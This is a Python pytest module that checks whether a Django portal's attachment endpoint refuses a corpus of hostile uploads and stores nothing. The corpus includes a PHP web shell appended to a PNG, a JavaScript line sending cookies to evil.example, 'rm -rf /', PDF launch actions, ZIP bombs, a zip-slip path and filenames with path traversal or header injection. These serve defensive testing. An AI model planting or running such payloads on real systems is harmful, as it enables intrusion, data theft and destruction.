"""A corpus of hostile files, each sent through the API's upload endpoint as the
item's owner: every one is refused with a 400 naming the field, and nothing is
stored, neither a row nor a file. docs/reliability.md counts the corpus."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from portal.core.files import check_upload
from portal.core.models import Attachment
from tests.factories import AchievementFactory, member_of
from tests.files import EXE, JPEG, PDF, PNG, office, upload

pytestmark = pytest.mark.django_db


def zipped(entries: dict[str, bytes], *, content_types: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if content_types:
            archive.writestr("[Content_Types].xml", "<Types/>")
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def pdf_with(token: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + token)


HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/')</script></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script/></svg>"
BOMB = b"0" * (150 * 1024 * 1024)

# (what it is, file name, content)
CORPUS = [
    # programs and markup renamed
    ("Windows executable as .pdf", "setup.pdf", EXE),
    ("ELF executable as .pdf", "tool.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64),
    ("shell script as .pdf", "run.pdf", b"#!/bin/sh\nrm -rf /\n"),
    ("JavaScript as .pdf", "app.pdf", b"document.location='http://evil.example/'+document.cookie"),
    ("HTML as .pdf", "page.pdf", HTML),
    ("HTML with a BOM as .pdf", "bom.pdf", b"\xef\xbb\xbf" + HTML),
    ("SVG as .pdf", "image.pdf", SVG),
    ("SVG as .png", "image.png", SVG),
    ("XHTML as .docx", "doc.docx", b"<?xml version='1.0'?><html><script/></html>"),
    ("GIF as .png", "anim.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    (
        "legacy OLE2 Word file as .docx",
        "old.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
    ),
    ("RAR archive as .docx", "a.docx", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32),
    ("7-Zip archive as .pdf", "a.pdf", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32),
    # active PDFs
    ("PDF with /JavaScript", "js.pdf", pdf_with(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    ("PDF with /JS only", "js2.pdf", pdf_with(b"/AA<</O<</JS(x)>>>>")),
    ("PDF with /Launch", "launch.pdf", pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("PDF with an embedded file", "embed.pdf", pdf_with(b"/Names<</EmbeddedFiles 3 0 R>>")),
    ("PDF with rich media", "flash.pdf", pdf_with(b"/RichMedia 4 0 R")),
    # polyglots
    ("PDF with a ZIP appended", "poly.pdf", PDF + zipped({"x.js": b"x"}) + b"\n" * 2000),
    ("PNG with a ZIP appended", "poly.png", PNG + zipped({"a.php": b"<?php ?>"})),
    ("PNG with PHP appended", "shell.png", PNG + b"<?php system($_GET['c']); ?>"),
    ("JPEG with HTML appended", "photo.jpg", JPEG + HTML),
    (
        "JPEG with a script in a comment",
        "c.jpg",
        JPEG[:-2] + b"\xff\xfe\x00\x20<script>x</script>" + b"\xff\xd9",
    ),
    ("PNG with markup inside", "m.png", PNG[:33] + b"<html><script>x</script>" + PNG[33:]),
    ("truncated PNG", "cut.png", PNG[:-12]),
    # archives
    ("ZIP bomb as .docx", "bomb.docx", zipped({"word/document.xml": BOMB})),
    ("ZIP bomb as .xlsx", "bomb.xlsx", zipped({"xl/workbook.xml": BOMB})),
    (
        "macro document renamed .docx",
        "macro.docx",
        zipped({"word/document.xml": b"<x/>", "word/vbaProject.bin": b"\0" * 64}),
    ),
    (
        "document with a path climbing out",
        "slip.docx",
        zipped({"word/document.xml": b"<x/>", "../../../etc/cron.d/evil": b"*"}),
    ),
    (
        "document carrying an executable",
        "exe.xlsx",
        zipped({"xl/workbook.xml": b"<x/>", "xl/embeddings/run.exe": EXE}),
    ),
    ("plain ZIP as .docx", "plain.docx", zipped({"readme.txt": b"hi"}, content_types=False)),
    ("broken ZIP as .xlsx", "broken.xlsx", b"PK\x03\x04" + b"\x00" * 40),
    # sizes
    ("empty file", "empty.pdf", b""),
    ("over 20 MB", "big.pdf", PDF + b"0" * (20 * 1024 * 1024) + b"%%EOF"),
]


# Hostile names. Over HTTP, Django's multipart parser already keeps only the last
# path component and drops unprintable characters before the portal sees the
# name, so these are sent both ways: to the upload check directly (as any other
# channel would call it), which refuses them, and over HTTP, where what arrives
# is cleaned and nothing of the path or the characters reaches the disk or the
# stored name.
HOSTILE_NAMES = [
    ("path in the name", "../../etc/passwd.pdf"),
    ("Windows path in the name", "..\\..\\win.ini.pdf"),
    ("NUL in the name", "report.pdf\x00.exe"),
    ("right-to-left override in the name", "invoice\u202efdp.exe"),
    ("control characters in the name", "a\r\nContent-Type: text-html.pdf"),
]


@pytest.fixture
def owner_api(api):
    item = AchievementFactory()
    api.force_authenticate(member_of(item.organization))
    return api, f"/api/v1/achievements/{item.pk}/attachments/"


def test_the_corpus_is_large_and_its_files_distinct():
    assert len(CORPUS) >= 30
    assert len({content for _what, _name, content in CORPUS}) >= 30


@pytest.mark.parametrize(("what", "name", "content"), CORPUS, ids=[c[0] for c in CORPUS])
def test_each_hostile_file_is_refused_and_nothing_is_stored(owner_api, media, what, name, content):
    api, url = owner_api
    response = api.post(url, {"file": [upload(name, content)]}, format="multipart")
    assert response.status_code == 400, what
    assert response.json()["file"], what
    assert not Attachment.objects.exists()
    assert [p for p in media.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize(
    ("count", "why"),
    [(100, "at most 10"), (101, "Django's parser takes at most 100 files: a 400, not a 500")],
)
def test_a_hundred_files_at_once_are_refused_and_nothing_is_stored(owner_api, media, count, why):
    api, url = owner_api
    files = [upload(f"{n}.pdf", PDF) for n in range(count)]
    response = api.post(url, {"file": files}, format="multipart")
    assert response.status_code == 400, why
    if count == 100:
        assert "10" in response.json()["file"][0]
    assert not Attachment.objects.exists()
    assert [p for p in media.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize(
    ("name", "content"),
    [("成果说明.pdf", PDF), ("图.png", PNG), ("照片.jpg", JPEG), ("报告.docx", office("docx"))],
)
def test_the_same_endpoint_accepts_honest_files(owner_api, media, name, content):
    # The positive control: the refusals above are about the files, not the endpoint.
    api, url = owner_api
    response = api.post(url, {"file": [upload(name, content)]}, format="multipart")
    assert response.status_code == 201
    assert Attachment.objects.count() == 1


# Django's UploadedFile itself keeps only what follows the last "/".
CHECKED_NAMES = [n for n in HOSTILE_NAMES if "/" not in n[1]]


@pytest.mark.parametrize(("what", "name"), CHECKED_NAMES, ids=[n[0] for n in CHECKED_NAMES])
def test_hostile_names_are_refused_by_the_upload_check(what, name):
    with pytest.raises(ValidationError):
        check_upload(upload(name, PDF))


@pytest.mark.parametrize(("what", "name"), HOSTILE_NAMES, ids=[n[0] for n in HOSTILE_NAMES])
def test_hostile_names_over_http_never_reach_the_disk_or_the_record(owner_api, media, what, name):
    api, url = owner_api
    boundary = "hostileboundary"
    body = (
        (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: application/pdf\r\n\r\n"
        ).encode()
        + PDF
        + f"\r\n--{boundary}--\r\n".encode()
    )
    response = api.generic(
        "POST", url, body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert response.status_code in (201, 400), what
    for attachment in Attachment.objects.all():
        assert not set("/\\\x00\r\n\u202e") & set(attachment.name), attachment.name
    for path in media.rglob("*"):
        assert path.is_relative_to(media) and ".." not in path.parts
        assert not set("\x00\u202e") & set(path.name)
